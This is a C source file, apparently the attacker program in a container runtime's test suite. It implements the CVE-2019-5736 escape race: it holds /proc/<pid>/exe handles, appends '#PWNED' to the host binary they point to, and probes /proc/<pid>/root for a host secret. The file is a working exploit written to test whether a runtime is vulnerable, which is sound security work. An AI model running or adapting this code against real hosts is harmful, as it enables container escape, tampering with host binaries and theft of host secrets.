/* The attacker of tests/test_exe_overwrite.py: a container process with CAP_SYS_PTRACE
 * that races every process appearing in its pid namespace (issue 10 item 1, issue 17
 * item 2). For each new pid it
 *   - opens /proc/<pid>/exe with O_PATH and keeps it: later (once ETXTBSY clears) it
 *     reopens /proc/self/fd/N for writing and appends to whatever file that is
 *     (CVE-2019-5736); with mode "nowrite" it never writes (used against runc, whose
 *     binary is the system's);
 *   - tries to read SECRET through /proc/<pid>/root (a host path: readable only through a
 *     process whose root is the host's).
 * It runs until OUT/stop exists, makes one last write pass, and prints one line per
 * finding ("WROTE <target>", "LEAK <pid>") and a summary line to stdout.
 * Build: gcc -static -O2 -o enter_race enter_race.c */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAXFD 512
static int held[MAXFD];
static int nheld, wrote, leaks, seen;
static char seen_pid[1 << 16];
/* Files of the container itself (its busybox, this program): never written, since the
 * rootfs may share them with the host (a hard-linked busybox). */
static struct stat own[2];

static void try_write(int write_mode) {
    char p[64], target[512];
    for (int i = 0; i < nheld; i++) {
        if (held[i] < 0) continue;
        snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
        if (!write_mode) continue;
        int w = open(p, O_WRONLY | O_APPEND);
        if (w < 0) {
            if (errno != ETXTBSY) { close(held[i]); held[i] = -1; }
            continue;
        }
        ssize_t n = readlink(p, target, sizeof target - 1);
        target[n > 0 ? n : 0] = 0;
        if (write(w, "#PWNED\n", 7) == 7) {
            printf("WROTE %s\n", target);
            wrote++;
        }
        close(w);
        close(held[i]);
        held[i] = -1;
    }
}

static void grab(int pid, const char *secret) {
    char p[512];
    seen++;
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    int fd = open(p, O_PATH);
    struct stat st;
    if (fd >= 0 && fstat(fd, &st) == 0)
        for (int i = 0; i < 2; i++)
            if (st.st_dev == own[i].st_dev && st.st_ino == own[i].st_ino) { close(fd); fd = -1; break; }
    if (fd >= 0 && nheld < MAXFD) held[nheld++] = fd;
    else if (fd >= 0) close(fd);
    snprintf(p, sizeof p, "/proc/%d/root%s", pid, secret);
    int s = open(p, O_RDONLY);
    if (s >= 0) {
        char b[16] = {0};
        if (read(s, b, 15) > 0 && strncmp(b, "HOST-SECRET", 11) == 0) {
            printf("LEAK %d\n", pid);
            leaks++;
        }
        close(s);
    }
}

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    const char *out = argv[1], *secret = argv[2];
    int write_mode = strcmp(argv[3], "write") == 0;
    char stop[512];
    snprintf(stop, sizeof stop, "%s/stop", out);
    setvbuf(stdout, NULL, _IOLBF, 0);
    stat("/bin/busybox", &own[0]);
    stat("/proc/self/exe", &own[1]);
    int self = getpid(), next = self + 1;
    seen_pid[self] = 1;
    printf("READY\n");
    for (unsigned long it = 0;; it++) {
        /* The next pids come in order: probe them directly (a few µs each), and walk
         * /proc now and then for any that were missed. */
        for (int k = 0; k < 4; k++) {
            int pid = next + k;
            if (pid <= 0 || pid >= (1 << 16) || seen_pid[pid]) continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            if (access(p, F_OK) == 0 || errno == EACCES) {
                seen_pid[pid] = 1;
                grab(pid, secret);
                if (pid >= next) next = pid + 1;
            }
        }
        if (it % 256 == 0) {
            DIR *d = opendir("/proc");
            struct dirent *e;
            while (d && (e = readdir(d))) {
                int pid = atoi(e->d_name);
                if (pid <= 0 || pid >= (1 << 16) || seen_pid[pid]) continue;
                seen_pid[pid] = 1;
                grab(pid, secret);
                if (pid >= next) next = pid + 1;
            }
            if (d) closedir(d);
            try_write(write_mode);
            if (access(stop, F_OK) == 0) break;
        }
    }
    try_write(write_mode);
    printf("DONE seen=%d held=%d wrote=%d leaks=%d\n", seen, nheld, wrote, leaks);
    return 0;
}
